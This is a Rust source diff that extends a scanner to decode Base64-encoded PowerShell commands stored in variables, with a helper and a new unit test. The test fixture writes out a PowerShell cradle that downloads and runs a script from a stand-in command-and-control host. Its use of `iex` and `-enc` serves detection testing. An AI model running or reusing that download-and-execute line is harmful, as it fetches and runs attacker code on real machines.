@@ -42,20 +42,25 @@ impl Finder<'_, '_> {
         let written = self.cut(token.clone());
         // `[Convert]::FromBase64String('SQBF…')` has no blank before its text.
         let call = written.to_ascii_lowercase().rfind(CALL).map_or(0, |at| at + CALL.len());
+        // `$e='SQBF…';` has none either.
+        let given = ["='", "=\""].into_iter().filter(|_| written.starts_with('$')).find_map(|mark| written.find(mark));
+        let call = call.max(given.map_or(0, |at| at + 1));
         let token = token.start + call..token.end;
         let written = self.cut(token.clone());
         let start = token.start + written.len() - written.trim_start_matches(marks).len();
         let range = start..start + written.trim_matches(marks).len();
         let written = self.cut(range.clone());
         let base64 = |byte: u8| byte.is_ascii_alphanumeric() || b"+/=".contains(&byte);
+        let limit = self.context.limits.encoded_bytes;
+        // What a script keeps in a variable may be anything: it is a command where it is text.
+        let is_kept = || written.len() as u64 <= limit && self.is_assigned(range.start) && decoded(written).is_some();
         if written.len() < SHORTEST
             || !written.bytes().all(base64)
             || is_hash(written)
-            || !self.is_behind_a_flag(range.start)
+            || !(self.is_behind_a_flag(range.start) || is_kept())
         {
             return Encoded::Not;
         }
-        let limit = self.context.limits.encoded_bytes;
         let shown = cut(written, 0..32);
         if written.len() as u64 > limit {
             self.hide(range.clone());
@@ -81,6 +86,16 @@ impl Finder<'_, '_> {
         let shown = cut(self.cut(range.clone()), 0..32);
         let what = format!("the command `{shown}…` is encoded (Base64) and does not decode to text");
         self.lose(what, range, "decode it, and add what it says");
+    }
+
+    /// Whether what is before `at` gives a variable of PowerShell its value: `$e = "`.
+    fn is_assigned(&self, at: usize) -> bool {
+        const LOOKED_AT: usize = 80;
+        let head = self.cut(self.text.floor_char_boundary(at.saturating_sub(LOOKED_AT))..at);
+        let head = head.trim_end_matches([' ', '"', '\'']);
+        let variable = head.strip_suffix('=').map(|head| head.trim_end_matches([' ', '+']));
+        let name = variable.and_then(|head| head.rsplit(|c: char| c.is_whitespace() || c == ';').next());
+        name.is_some_and(|name| name.len() > 1 && name.starts_with('$'))
     }
 
     /// Whether what is before `at` says that an encoded command follows: any beginning of `-EncodedCommand`, which PowerShell
@@ -170,6 +185,20 @@ mod tests {
 
     fn read(text: &str) -> Reading {
         crate::read_item("notes.txt", text.as_bytes(), &Context::default()).swap_remove(0).reading
+    }
+
+    #[test]
+    fn a_command_in_a_variable_is_read_where_it_is_text() {
+        for text in [
+            format!("$e = \"{}\"\npowershell -enc $e\n", encoded(SCRIPT)),
+            format!("$payload='{}'; iex $payload\n", encoded(SCRIPT)),
+        ] {
+            let read = read(&text);
+            assert!(read.observations().iter().any(|it| it.observed.to_string().contains("c2.example.com")), "{text}");
+        }
+        let noise = BASE64.encode([0x9f, 0x86, 0xd0, 0x81].repeat(16));
+        let read = read(&format!("$key = \"{noise}\"\n"));
+        assert!(read.losses().is_empty() && read.observations().is_empty(), "{read:?}");
     }
 
     const SCRIPT: &str = "IEX (New-Object Net.WebClient).DownloadString('http://c2.example.com/a.ps1')";
